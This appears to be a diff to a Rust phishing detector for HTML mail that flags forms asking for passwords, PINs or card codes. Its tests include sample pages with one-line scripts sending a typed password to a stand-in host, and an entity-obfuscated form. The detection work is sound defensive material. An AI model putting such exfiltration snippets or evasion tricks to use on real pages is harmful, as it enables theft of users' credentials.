@@ -259,10 +259,37 @@ fn is_password(tag: &Tag<'_>) -> bool {
     if kind == "password" {
         return true;
     }
+    if matches!(kind.as_str(), "" | "text" | "tel" | "number") && asks_for_secret(tag) {
+        return true;
+    }
     let named = ["name", "id", "placeholder"]
         .iter()
         .any(|name| value(name).contains("passw"));
     named && matches!(kind.as_str(), "" | "text") && value("style").contains("text-security")
+}
+
+/// Whether a field in plain sight asks for what nobody sends in a form of a mail: what browsers would fill into it (HTML
+/// Standard, 4.10.18.7 "Autofill"), or what it says itself.
+fn asks_for_secret(tag: &Tag<'_>) -> bool {
+    const FILLED: [&str; 4] = ["current-password", "new-password", "cc-number", "cc-csc"];
+    const SAID: [&str; 9] = [
+        "password",
+        "passcode",
+        "パスワード",
+        "暗証番号",
+        "カード番号",
+        "セキュリティコード",
+        "card number",
+        "security code",
+        "cvv",
+    ];
+    let filled = tag.attribute("autocomplete").unwrap_or_default();
+    let mut filled = filled.split_ascii_whitespace();
+    filled.any(|token| FILLED.iter().any(|one| token.eq_ignore_ascii_case(one)))
+        || ["placeholder", "aria-label"].iter().any(|name| {
+            let said = tag.attribute(name).unwrap_or_default().to_lowercase();
+            SAID.iter().any(|word| said.contains(word))
+        })
 }
 
 /// Whether a form is sent by mail.
@@ -367,6 +394,10 @@ mod tests {
             "<base href=\"https://login.example.invalid/\"><form action=p.php method=post><input type=password></form>",
             "<input type=password id=p><script>new Image().src = 'https://login.example.invalid/?p=' + p.value</script>",
             "<form action='https://login.example.invalid/'><input id=q></form><script>q.setAttribute('type', 'password')</script>",
+            "<form action='https://login.example.invalid/'><input name=b placeholder='パスワード'></form>",
+            "<form action='https://login.example.invalid/'><input type=tel placeholder='暗証番号(4桁)'></form>",
+            "<form action='https://login.example.invalid/'><input autocomplete='section-a cc-csc'></form>",
+            "<form action=https&colon;//login.example.invalid/><input type=&#112assword></form>",
             "<input type=password id=p><script>s.src = 'https://login.example.invalid/a.js?p=' + p.value</script>",
         ] {
             assert_eq!(found(page), (1, 1), "{page}");
@@ -374,6 +405,9 @@ mod tests {
         for page in [
             "<form action=\"/login\"><input type=password></form>",
             "<form action=\"https://www.example.com/search\"><input name=q></form>",
+            "<form action='https://www.example.com/in'><input placeholder='お名前' autocomplete=name></form>",
+            "<form action='https://www.example.com/in'><input type=hidden placeholder=Password></form>",
+            "<form action=/in><input placeholder='パスワード'></form>",
             "<p>Your password has been changed: <a href=\"https://www.example.com/\">see</a></p>",
             "<form><input type=password></form>",
             "<base href=\"https://www.example.com/\"><form action=search><input name=q></form>",
